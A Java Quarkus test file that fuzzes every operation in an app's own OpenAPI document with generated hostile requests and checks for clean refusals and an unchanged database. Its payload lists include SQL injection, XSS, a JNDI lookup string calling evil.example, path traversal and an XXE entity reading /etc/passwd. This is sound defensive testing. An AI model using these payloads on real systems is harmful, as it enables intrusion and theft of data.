package org.huddleboard;

import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.function.Supplier;

import jakarta.inject.Inject;

import org.huddleboard.common.Refusals;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;

/**
 * Every operation in the app's own OpenAPI document gets a bounded set of generated hostile
 * requests, as every kind of caller: wrong types, empty and oversized bodies, broken encodings,
 * unknown ids, traversal and injection strings. Nothing may answer 5xx, every refusal must say
 * why (problem JSON on the API, a page on page routes), and no refused request may change the
 * database. Operations are read from the document, so new endpoints are covered as they come.
 */
@QuarkusTest
class HostileInputTest {

    /**
     * Bounds the run (about 60 requests a second on a busy machine) in proportion to the API, since
     * every operation must be covered: 37 operations took 7,639 requests (206 each).
     */
    private static final int REQUESTS_PER_OPERATION = 270;
    private int maxRequests;
    private static final int MAX_BODY = 10 * 1024 * 1024;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String OVERSIZE = "body over the size limit";

    /**
     * Operations that end the caller's own credentials whatever is sent: each request to them
     * gets a session of its own, so the shared test sessions survive. Nothing is skipped.
     */
    private static final Set<String> ENDS_CALLERS_SESSION = Set.of("POST /sign-out");

    /**
     * Writes a refused request may make, and why: the audit trail records refused sign-ins
     * (action "*.failed"), failed sign-ins count towards throttling a name, and a paired
     * device's last-seen time moves whenever it calls. Everything else must stay as it was.
     */
    private static final Map<String, Set<String>> BOOKKEEPING_COLUMNS = Map.of(
            "PERSON", Set.of("FAILED_ATTEMPTS", "LOCKED_UNTIL"),
            "DEVICE", Set.of("LAST_SEEN_AT"));
    /** Bookkeeping tables: sign-in attempts are counted for the throttle, refused or not. */
    private static final Set<String> BOOKKEEPING_TABLES = Set.of("SIGN_IN_ATTEMPT", "SIGN_IN_LOCK");
    private static final String REFUSAL_AUDIT_ACTION = ".failed";

    /** Values for path and query parameters: each is tried in every parameter of every operation. */
    private static final List<String> HOSTILE_VALUES = List.of(
            "no-such-thing", "0", "-1", "999999999", "9223372036854775808", "1.5", "1e400", "NaN", "true",
            "0000-01-01", "+999999999-12-31", "-999999999-01-01", "2026-02-30", "today ",
            "' OR '1'='1", "1; DROP TABLE ward;--", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
            "{{7*7}}", "%s%n", "\u202Eevil", "\u0000", "caf\u00E9", "x".repeat(3000));
    /** Sent unencoded in the path, as an attacker's client would. */
    private static final List<String> RAW_PATH_VALUES = List.of("../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd",
            "%2e%2e", "%C0%AF", "%00", "a%2Fb", ";jsessionid=1");

    @Inject
    AgroalDataSource dataSource;

    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .followRedirects(HttpClient.Redirect.NEVER).connectTimeout(Duration.ofSeconds(10)).build();
    private final Map<String, List<String>> failures = new TreeMap<>();
    private final Set<String> operationsCovered = new LinkedHashSet<>();
    private int sent;
    private int refused;
    private int accepted;
    private int fingerprints;
    private long fingerprintNanos;
    private final Map<String, Long> nanosByOperation = new TreeMap<>();
    private List<String> fingerprintSql;
    /** Refusals that were followed by an accepted request three times, so never seen alone. */
    private int unverified;
    private int unsendable;
    private final Set<String> headerOrCookieParameters = new LinkedHashSet<>();
    private JsonNode openApi;
    private final Map<String, String> knownValues = new LinkedHashMap<>();

    record Caller(String name, Supplier<String> cookie) {
    }

    record Attack(String what, String method, String path, Map<String, String> headers, byte[] body) {
    }

    /** What came back: the status, the Content-Type ("none" if absent) and the body. */
    record Answer(int status, String contentType, String body) {
        static Answer of(HttpResponse<String> r) {
            return new Answer(r.statusCode(), r.headers().firstValue("Content-Type").orElse("none"), r.body());
        }
    }

    record Operation(String method, String template, JsonNode spec) {
        String key() {
            return method + " " + template;
        }
    }

    @Test
    void hostileRequestsAreRefusedClearlyAndChangeNothing() throws Exception {
        long started = System.nanoTime();
        openApi = JSON.readTree(get("/q/openapi?format=json"));
        learnKnownValues();
        List<Caller> callers = callers();
        List<Operation> operations = operations();
        assertTrue(operations.size() >= 10, "the OpenAPI document lists the API: " + operations.size());
        maxRequests = REQUESTS_PER_OPERATION * operations.size();

        for (Operation op : operations) {
            List<Attack> attacks = attacks(op);
            // Every caller sends a share of the attacks; admin and a ward tablet, who get past most
            // access checks, send them all, so that validation behind the checks is reached.
            for (int c = 0; c < callers.size(); c++) {
                Caller caller = callers.get(c);
                List<Attack> share = new ArrayList<>();
                for (int i = 0; i < attacks.size(); i++) {
                    boolean everyone = caller.name().equals("admin") || caller.name().equals("tablet");
                    if (attacks.get(i).what().equals(OVERSIZE)) {
                        // 10 MB each: once per operation is enough to see the limit hold.
                        everyone = caller.name().equals("admin");
                    } else if (everyone || i % callers.size() == c) {
                        everyone = true;
                    }
                    if (everyone) {
                        share.add(attacks.get(i));
                    }
                }
                runBatch(op, caller, share);
            }
            operationsCovered.add(op.key());
            if (sent >= maxRequests) {
                fail(op, "the request budget ran out before every operation was covered");
                break;
            }
        }

        double seconds = (System.nanoTime() - started) / 1e9;
        System.out.printf(Locale.ROOT, "Hostile input: %d requests over %d of %d operations as %d callers in %.1f s"
                + " (%d refused, %d accepted, %d database fingerprints, %d refusals not checked alone)%n", sent,
                operationsCovered.size(), operations.size(), callers.size(), seconds, refused, accepted, fingerprints,
                unverified);
        System.out.printf(Locale.ROOT, "Hostile input: %.1f s in fingerprints; slowest operations %s%n",
                fingerprintNanos / 1e9, nanosByOperation.entrySet().stream()
                        .sorted(Map.Entry.<String, Long> comparingByValue().reversed()).limit(4)
                        .map(e -> e.getKey() + String.format(Locale.ROOT, " %.1f s", e.getValue() / 1e9)).toList());
        if (unsendable > 0 || !headerOrCookieParameters.isEmpty()) {
            System.out.println("Hostile input: " + unsendable + " paths no client could send; parameters not varied: "
                    + headerOrCookieParameters);
        }
        operations.stream().filter(op -> !operationsCovered.contains(op.key()))
                .forEach(op -> System.out.println("Hostile input: NOT covered " + op.key()));
        StringBuilder report = new StringBuilder();
        failures.forEach((cause, examples) -> report.append("\n- ").append(cause).append(" (")
                .append(examples.size()).append("x), e.g. ").append(String.join(" | ", examples.subList(0,
                        Math.min(3, examples.size())))));
        if (!failures.isEmpty()) {
            System.out.println("Hostile input failures:" + report);
        }
        assertTrue(failures.isEmpty(), failures.size() + " kinds of failure:" + report);
    }

    // --- What to send -------------------------------------------------------------------------

    private List<Operation> operations() {
        List<Operation> ops = new ArrayList<>();
        openApi.path("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(m -> {
            String method = m.getKey().toUpperCase(Locale.ROOT);
            if (Set.of("GET", "PUT", "POST", "DELETE", "PATCH", "HEAD", "OPTIONS").contains(method)) {
                ops.add(new Operation(method, path.getKey(), m.getValue()));
            }
        }));
        return ops;
    }

    /** Real values for parameters, so that attacks on one part of a request reach the code behind the others. */
    private void learnKnownValues() {
        knownValues.put("ward", "ward-12");
        String measure = TestAuth.as("executive").get("/api/wards/ward-12/board").then().statusCode(200).extract()
                .path("measures[0].key");
        knownValues.put("measure", measure);
        // Old enough to be off every board's history, so a write accepted here disturbs no other test.
        knownValues.put("date", LocalDate.now(ZoneId.of("Europe/London")).minusDays(45).toString());
        // Only for a card's {id}: a device's {id} stays unknown, so no accepted request revokes a test device.
        knownValues.put("ideas/{id}", String.valueOf(ideaOnWard12()));
    }

    /** The known value for a path parameter: the one for "segment/{name}" if given, else for the name alone. */
    private String knownValue(Operation op, String name) {
        String placeholder = "{" + name + "}";
        String before = op.template().substring(0, Math.max(0, op.template().indexOf(placeholder)));
        String segment = before.replaceAll("/$", "").replaceAll(".*/", "");
        return knownValues.getOrDefault(segment + "/" + placeholder, knownValues.getOrDefault(name, "no-such-thing"));
    }

    /** A card on ward-12 for {id}: a demo one if the demo has any, else one raised here by the ward's tablet. */
    private static long ideaOnWard12() {
        List<Long> cards = TestAuth.asTablet("ward-12").get("/api/wards/ward-12/ideas").then().statusCode(200)
                .extract().jsonPath().getList("id", Long.class);
        if (!cards.isEmpty()) {
            return cards.get(0);
        }
        return TestAuth.asTablet("ward-12").contentType("application/json").body("{\"title\": \"Hostile-input card\","
                + " \"problem\": \"Spare gloves run out\", \"idea\": \"Restock at handover\","
                + " \"qualityAim\": \"WASTE_OR_COST\"}").post("/api/wards/ward-12/ideas").then().statusCode(201)
                .extract().jsonPath().getLong("id");
    }

    private List<Attack> attacks(Operation op) {
        List<Attack> attacks = new ArrayList<>();
        List<JsonNode> params = new ArrayList<>();
        op.spec().path("parameters").forEach(p -> params.add(resolve(p)));
        Map<String, String> base = new LinkedHashMap<>();
        for (JsonNode p : params) {
            if (p.path("in").asText().equals("path")) {
                base.put(p.path("name").asText(), knownValue(op, p.path("name").asText()));
            }
        }
        byte[] plausible = plausibleBody(op);
        String bodyType = bodyType(op);

        for (JsonNode p : params) {
            String name = p.path("name").asText();
            String in = p.path("in").asText();
            for (String value : HOSTILE_VALUES) {
                Map<String, String> values = new LinkedHashMap<>(base);
                String query = "";
                if (in.equals("path")) {
                    values.put(name, encode(value));
                } else if (in.equals("query")) {
                    query = "?" + name + "=" + encode(value);
                } else {
                    // Header and cookie parameters: none are declared today; cookies are sent per caller.
                    headerOrCookieParameters.add(op.key() + " " + in + " " + name);
                    continue;
                }
                attacks.add(new Attack(in + " " + name + "=" + shorten(value), op.method(), path(op, values) + query,
                        contentType(bodyType), plausible));
            }
            if (in.equals("path")) {
                for (String raw : RAW_PATH_VALUES) {
                    Map<String, String> values = new LinkedHashMap<>(base);
                    values.put(name, raw);
                    attacks.add(new Attack("raw path " + name + "=" + raw, op.method(), path(op, values),
                            contentType(bodyType), plausible));
                }
            }
        }
        String path = path(op, base);
        if (bodyType != null) {
            attacks.addAll(bodyAttacks(op, path, bodyType));
        } else if (Set.of("POST", "PUT", "PATCH", "DELETE").contains(op.method())) {
            // It takes no body: a few unexpected ones, to see they are ignored or refused cleanly.
            attacks.addAll(bodyAttacks(op, path, null).stream().filter(a -> Set.of("body {}",
                    "overlong UTF-8 C0 AF", "charset=bogus", "Content-Type garbage", "application/xml", OVERSIZE)
                    .contains(a.what())).toList());
        }
        attacks.add(new Attack("no hostility", op.method(), path, contentType(bodyType), plausible));
        attacks.add(new Attack("another site's Origin", op.method(), path,
                with(contentType(bodyType), "Origin", "http://evil.example"), plausible));
        attacks.add(new Attack("forwarded host and origin", op.method(), path, with(with(contentType(bodyType),
                "X-Forwarded-Host", "evil.example"), "Origin", "http://evil.example"), plausible));
        attacks.add(new Attack("Accept: application/xml", op.method(), path,
                with(contentType(bodyType), "Accept", "application/xml"), plausible));
        for (String other : List.of("PATCH", "DELETE", "PUT")) {
            if (!openApi.path("paths").path(op.template()).has(other.toLowerCase(Locale.ROOT))) {
                attacks.add(new Attack("undeclared method " + other, other, path, contentType(bodyType), plausible));
                break;
            }
        }
        return attacks;
    }

    private List<Attack> bodyAttacks(Operation op, String path, String bodyType) {
        List<Attack> attacks = new ArrayList<>();
        boolean form = "application/x-www-form-urlencoded".equals(bodyType);
        Map<String, String> type = contentType(bodyType == null ? "application/json" : bodyType);
        String m = op.method();
        if (form) {
            JsonNode schema = bodySchema(op);
            List<String> fields = new ArrayList<>();
            schema.path("properties").fieldNames().forEachRemaining(fields::add);
            for (String field : fields) {
                for (String value : List.of("%C0%AF", "%zz", "%", encode("x".repeat(20000)), encode("\u202E\u0000"),
                        encode("943 476 5919"))) {
                    attacks.add(new Attack("form " + field + "=" + shorten(value), m, path, type,
                            ascii(field + "=" + value)));
                }
                attacks.add(new Attack("form " + field + " twice", m, path, type, ascii(field + "=a&" + field + "=b")));
            }
            attacks.add(new Attack("form with no fields", m, path, type, new byte[0]));
            attacks.add(new Attack("form as JSON", m, path, contentType("application/json"), ascii("{\"a\":1}")));
            attacks.add(new Attack("form in charset=bogus", m, path, contentType(bodyType + "; charset=bogus"),
                    ascii("a=b")));
        } else {
            JsonNode schema = bodySchema(op);
            for (Map.Entry<String, JsonNode> wrong : wrongTypedBodies(schema).entrySet()) {
                attacks.add(new Attack("body " + wrong.getKey(), m, path, type, ascii(wrong.getValue().toString())));
            }
            for (String text : List.of("", "null", "[]", "\"text\"", "12", "true", "{", "{\"a\":", "{}", "{} x",
                    "{}{}", "{\"a\":1,\"a\":2}", "[".repeat(5000), "{\"a\":" + "9".repeat(5000) + "}",
                    "{\"a\":\"\\ud800\"}", "{\"a\":\"" + "x".repeat(20_000) + "\"}", "\uFEFF{}", "/* c */ {}",
                    "{'a':1}", "{a:1}", "NaN")) {
                attacks.add(new Attack("body " + shorten(text), m, path, type, text.getBytes(StandardCharsets.UTF_8)));
            }
            byte[] plausible = plausibleBody(op);
            attacks.add(new Attack("overlong UTF-8 C0 AF", m, path, type, concat(ascii("{\"a\":\""),
                    new byte[] { (byte) 0xC0, (byte) 0xAF }, ascii("\"}"))));
            attacks.add(new Attack("truncated UTF-8", m, path, type, concat(ascii("{\"a\":\""),
                    new byte[] { (byte) 0xE2, (byte) 0x82 }, ascii("\"}"))));
            attacks.add(new Attack("UTF-16 body", m, path, contentType("application/json; charset=UTF-16"),
                    "{}".getBytes(StandardCharsets.UTF_16)));
            attacks.add(new Attack("charset=bogus", m, path, contentType("application/json; charset=bogus"),
                    plausible));
            attacks.add(new Attack("no Content-Type", m, path, Map.of(), plausible));
            attacks.add(new Attack("text/plain", m, path, contentType("text/plain"), plausible));
            attacks.add(new Attack("application/xml", m, path, contentType("application/xml"),
                    ascii("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")));
            attacks.add(new Attack("form instead of JSON", m, path, contentType("application/x-www-form-urlencoded"),
                    ascii("a=b")));
            attacks.add(new Attack("Content-Type garbage", m, path, contentType(";;;/"), plausible));
        }
        byte[] huge = new byte[MAX_BODY + 1024];
        java.util.Arrays.fill(huge, (byte) ' ');
        huge[0] = form ? (byte) 'a' : (byte) '[';
        attacks.add(new Attack(OVERSIZE, m, path, type, huge));
        return attacks;
    }

    /** For each property, the body with that one property of a wrong type; the others plausible. */
    private Map<String, JsonNode> wrongTypedBodies(JsonNode schema) {
        Map<String, JsonNode> bodies = new LinkedHashMap<>();
        ObjectNode plausible = plausible(schema);
        schema.path("properties").fields().forEachRemaining(p -> {
            JsonNode prop = resolve(p.getValue());
            List<JsonNode> wrongs = switch (prop.path("type").asText("")) {
                case "string" -> List.of(NODES.numberNode(12345), NODES.booleanNode(true), NODES.objectNode()
                        .put("$gt", ""), NODES.arrayNode().add("x"), NODES.textNode("x".repeat(5000)));
                case "integer", "number" -> List.of(NODES.textNode("12"), NODES.numberNode(2.9),
                        NODES.numberNode(new java.math.BigDecimal("1e400")), NODES.numberNode(
                                new java.math.BigInteger("99999999999999999999999")), NODES.booleanNode(true));
                case "boolean" -> List.of(NODES.textNode("true"), NODES.numberNode(1), NODES.nullNode());
                case "array" -> List.of(NODES.textNode("x"), NODES.objectNode().put("a", 1),
                        NODES.arrayNode().addNull(), NODES.arrayNode().add(NODES.arrayNode()));
                default -> List.of(NODES.arrayNode(), NODES.textNode("x"), NODES.objectNode().put("a", 1),
                        NODES.numberNode(new java.math.BigDecimal("1e400")));
            };
            for (JsonNode wrong : wrongs) {
                ObjectNode body = plausible.deepCopy();
                body.set(p.getKey(), wrong);
                bodies.put(p.getKey() + "=" + shorten(wrong.toString()), body);
            }
            ObjectNode nulled = plausible.deepCopy();
            nulled.putNull(p.getKey());
            bodies.put(p.getKey() + "=null", nulled);
        });
        ObjectNode extra = plausible.deepCopy();
        extra.put("unknownField", "x");
        bodies.put("with an unknown field", extra);
        ArrayNode asArray = NODES.arrayNode().add(plausible);
        bodies.put("as an array", asArray);
        return bodies;
    }

    private ObjectNode plausible(JsonNode schema) {
        ObjectNode body = NODES.objectNode();
        schema.path("properties").fields().forEachRemaining(p -> {
            JsonNode prop = resolve(p.getValue());
            switch (prop.path("type").asText("")) {
                case "string" -> body.put(p.getKey(), "x");
                case "integer", "number" -> body.put(p.getKey(), 1);
                case "boolean" -> body.put(p.getKey(), true);
                case "array" -> body.set(p.getKey(), NODES.arrayNode());
                default -> body.put(p.getKey(), 1);
            }
        });
        return body;
    }

    private byte[] plausibleBody(Operation op) {
        String type = bodyType(op);
        if (type == null) {
            return null;
        }
        ObjectNode body = plausible(bodySchema(op));
        if (type.equals("application/x-www-form-urlencoded")) {
            List<String> pairs = new ArrayList<>();
            body.fields().forEachRemaining(f -> pairs.add(f.getKey() + "=x"));
            return ascii(String.join("&", pairs));
        }
        return ascii(body.toString());
    }

    private String bodyType(Operation op) {
        Iterator<String> types = op.spec().path("requestBody").path("content").fieldNames();
        return types.hasNext() ? types.next() : null;
    }

    private JsonNode bodySchema(Operation op) {
        String type = bodyType(op);
        return type == null ? NODES.objectNode()
                : resolve(op.spec().path("requestBody").path("content").path(type).path("schema"));
    }

    private JsonNode resolve(JsonNode node) {
        for (int depth = 0; node.has("$ref") && depth < 10; depth++) {
            String[] ref = node.get("$ref").asText().replaceFirst("^#/", "").split("/");
            JsonNode target = openApi;
            for (String part : ref) {
                target = target.path(part);
            }
            node = target;
        }
        return node;
    }

    // --- Sending and judging ------------------------------------------------------------------

    private List<Caller> callers() {
        List<Caller> callers = new ArrayList<>();
        callers.add(new Caller("nobody", () -> null));
        for (String person : List.of("lead", "manager", "executive", "admin")) {
            callers.add(new Caller(person, () -> "hb_session=" + TestAuth.session(person)));
        }
        callers.add(new Caller("display", () -> "hb_device=" + TestAuth.device("ward-12", "display")));
        callers.add(new Caller("tablet", () -> "hb_device=" + TestAuth.device("ward-12", "ward")));
        callers.forEach(c -> c.cookie().get()); // signs in and pairs now, not between two fingerprints
        return callers;
    }

    /**
     * Sends the attacks, checking that the database is unchanged across each run of refusals.
     * When one is accepted (it may change things), the refusals sent before it in that run are
     * sent again between fresh fingerprints, so that every refusal is seen to change nothing.
     */
    private void runBatch(Operation op, Caller caller, List<Attack> attacks) throws Exception {
        List<Attack> pending = new ArrayList<>(attacks);
        Map<Attack, Integer> tries = new java.util.IdentityHashMap<>();
        while (!pending.isEmpty() && sent < maxRequests) {
            // Credentials first: signing in writes to the database, so it happens before the fingerprint.
            List<String> cookies = new ArrayList<>();
            for (int i = 0; i < pending.size(); i++) {
                cookies.add(cookie(op, caller));
            }
            Map<String, String> before = fingerprint();
            List<Attack> refusedHere = new ArrayList<>();
            int acceptedAt = -1;
            for (int i = 0; i < pending.size() && sent < maxRequests; i++) {
                tries.merge(pending.get(i), 1, Integer::sum);
                if (send(op, caller, pending.get(i), cookies.get(i))) {
                    refusedHere.add(pending.get(i));
                    continue;
                }
                Map<String, String> after = fingerprint();
                if (!after.equals(before)) {
                    acceptedAt = i;
                    break;
                }
                // The accepted request changed nothing either, so neither did the refusals before it.
                refusedHere.clear();
            }
            if (acceptedAt < 0) {
                compare(op, caller, before, refusedHere);
                return;
            }
            List<Attack> next = new ArrayList<>();
            for (Attack a : refusedHere) {
                if (tries.get(a) < 3) {
                    next.add(a);
                } else {
                    unverified++;
                }
            }
            next.addAll(pending.subList(acceptedAt + 1, pending.size()));
            pending = next;
        }
    }

    private String cookie(Operation op, Caller caller) {
        boolean person = caller.name().matches("lead|manager|executive|admin");
        return ENDS_CALLERS_SESSION.contains(op.key()) && person
                ? "hb_session=" + TestAuth.signIn(caller.name(), TestAuth.PASSWORDS.get(caller.name()))
                : caller.cookie().get();
    }

    private void compare(Operation op, Caller caller, Map<String, String> before, List<Attack> refusals)
            throws Exception {
        Map<String, String> after = fingerprint();
        if (!before.equals(after)) {
            List<String> changed = new ArrayList<>();
            before.forEach((table, print) -> {
                if (!print.equals(after.get(table))) {
                    changed.add(table);
                }
            });
            fail(op, "refused requests changed tables " + changed + " as " + caller.name(),
                    refusals.stream().map(Attack::what).limit(20).toList().toString());
        }
    }

    /** Sends one request and judges the answer; true if it was refused (4xx). */
    private boolean send(Operation op, Caller caller, Attack attack, String cookie) throws Exception {
        HttpRequest.Builder request;
        try {
            request = HttpRequest.newBuilder(URI.create(base() + attack.path())).timeout(Duration.ofSeconds(30));
        } catch (IllegalArgumentException e) {
            unsendable++; // a client cannot even send this path; nothing reached the server
            return true;
        }
        attack.headers().forEach(request::header);
        if (cookie != null) {
            request.header("Cookie", cookie);
        }
        request.method(attack.method(), attack.body() == null ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofByteArray(attack.body()));
        long started = System.nanoTime();
        Answer response;
        try {
            // A client that asks first is told 413 before it sends 10 MB. The JDK's client waits for
            // ever on a refusal with a body after "Expect: 100-continue", so that one goes by hand.
            response = attack.what().equals(OVERSIZE) ? RawHttp.send(base(), attack, cookie)
                    : Answer.of(http.send(request.build(), HttpResponse.BodyHandlers.ofString()));
        } catch (java.io.IOException e) {
            sent++;
            fail(op, "no answer (" + e.getMessage() + ")", caller.name() + " " + attack.method() + " "
                    + shorten(attack.path()) + " [" + attack.what() + "]");
            return true;
        }
        nanosByOperation.merge(op.key(), System.nanoTime() - started, Long::sum);
        sent++;
        int status = response.status();
        String where = caller.name() + " " + attack.method() + " " + shorten(attack.path()) + " [" + attack.what()
                + "] -> " + status;
        if (status >= 500) {
            fail(op, status + " server error", where + " " + shorten(response.body()));
            return false;
        }
        if (status < 400) {
            accepted++;
            return false;
        }
        refused++;
        judgeRefusal(op, attack, response, where);
        return true;
    }

    private void judgeRefusal(Operation op, Attack attack, Answer response, String where) {
        int status = response.status();
        String type = response.contentType();
        // The rule users see: /api/* answers problem JSON, every other path a page. A raw "../" path
        // is judged where the server resolves it to (the app reads the normalised path too).
        boolean api = Refusals.isApi(resolved(attack.path()));
        if (!api) {
            if (!type.startsWith("text/html") || response.body().isBlank()) {
                fail(op, status + " on a page route is not a readable page (Content-Type " + type + ")", where);
            }
            return;
        }
        if (!type.startsWith("application/problem+json")) {
            fail(op, status + " without problem JSON (Content-Type " + type
                    + (response.body().isEmpty() ? ", empty body" : "") + ")", where);
            return;
        }
        try {
            JsonNode problem = JSON.readTree(response.body());
            if (problem.path("status").asInt() != status
                    || problem.path("title").asText("").isBlank() && problem.path("detail").asText("").isBlank()) {
                fail(op, status + " problem JSON without status, title or detail", where + " " + response.body());
            }
        } catch (Exception e) {
            fail(op, status + " problem JSON that does not parse", where);
        }
    }

    private static String resolved(String path) {
        try {
            return URI.create(path).normalize().getPath();
        } catch (IllegalArgumentException e) {
            return path;
        }
    }

    private void fail(Operation op, String cause, String... example) {
        failures.computeIfAbsent(op.key() + ": " + cause, k -> new ArrayList<>())
                .add(example.length == 0 ? "" : example[0]);
    }

    // --- The database -------------------------------------------------------------------------

    /**
     * Row count and an order-independent hash of the contents of every table, computed in the
     * database so that it stays cheap.
     */
    private Map<String, String> fingerprint() throws Exception {
        long started = System.nanoTime();
        fingerprints++;
        Map<String, String> prints = new TreeMap<>();
        try (Connection c = dataSource.getConnection(); Statement st = c.createStatement()) {
            for (String sql : fingerprintQueries(c)) {
                try (ResultSet rs = st.executeQuery(sql)) {
                    rs.next();
                    prints.put(sql.substring(sql.lastIndexOf(" from ") + 6), rs.getString(1) + ":" + rs.getString(2));
                }
            }
        }
        fingerprintNanos += System.nanoTime() - started;
        return prints;
    }

    private List<String> fingerprintQueries(Connection c) throws Exception {
        if (fingerprintSql != null) {
            return fingerprintSql;
        }
        List<String> queries = new ArrayList<>();
        String q = c.getMetaData().getIdentifierQuoteString();
        boolean postgres = c.getMetaData().getDatabaseProductName().startsWith("PostgreSQL");
        try (ResultSet tables = c.getMetaData().getTables(null, null, "%", new String[] { "TABLE" })) {
            while (tables.next()) {
                String schema = tables.getString("TABLE_SCHEM");
                String table = tables.getString("TABLE_NAME");
                if ("INFORMATION_SCHEMA".equalsIgnoreCase(schema) || schema.startsWith("pg_")
                        || BOOKKEEPING_TABLES.contains(table.toUpperCase(Locale.ROOT))) {
                    continue;
                }
                Set<String> ignored = BOOKKEEPING_COLUMNS.getOrDefault(table.toUpperCase(Locale.ROOT), Set.of());
                List<String> columns = new ArrayList<>();
                try (ResultSet cols = c.getMetaData().getColumns(null, schema, table, "%")) {
                    while (cols.next()) {
                        String col = cols.getString("COLUMN_NAME");
                        if (!ignored.contains(col.toUpperCase(Locale.ROOT))) {
                            columns.add("coalesce(cast(" + q + col + q + " as varchar), '~')");
                        }
                    }
                }
                String row = String.join(" || '|' || ", columns);
                String where = table.equalsIgnoreCase("audit_event")
                        ? " where action not like '%" + REFUSAL_AUDIT_ACTION + "'" : "";
                // H2's ORA_HASH; on PostgreSQL the first 60 bits of an MD5.
                String hash = postgres ? "('x' || substr(md5(" + row + "), 1, 15))::bit(60)::bigint"
                        : "ora_hash(" + row + ")";
                queries.add("select count(*), coalesce(sum(cast(" + hash + " as decimal(30))), 0) from " + q
                        + schema + q + "." + q + table + q + where);
            }
        }
        fingerprintSql = queries;
        return queries;
    }

    // --- Small helpers ------------------------------------------------------------------------

    private String get(String path) throws Exception {
        return http.send(HttpRequest.newBuilder(URI.create(base() + path)).build(),
                HttpResponse.BodyHandlers.ofString()).body();
    }

    private static String base() {
        return RestAssured.baseURI + ":" + RestAssured.port;
    }

    private static String path(Operation op, Map<String, String> values) {
        String path = op.template();
        for (Map.Entry<String, String> v : values.entrySet()) {
            path = path.replace("{" + v.getKey() + "}", v.getValue());
        }
        return path;
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static Map<String, String> contentType(String type) {
        return type == null ? Map.of() : Map.of("Content-Type", type);
    }

    private static Map<String, String> with(Map<String, String> headers, String name, String value) {
        Map<String, String> all = new LinkedHashMap<>(headers);
        all.put(name, value);
        return all;
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    private static String shorten(String text) {
        String oneLine = text.replaceAll("\\p{Cntrl}", "?");
        return oneLine.length() <= 60 ? oneLine : oneLine.substring(0, 57) + "...";
    }
}
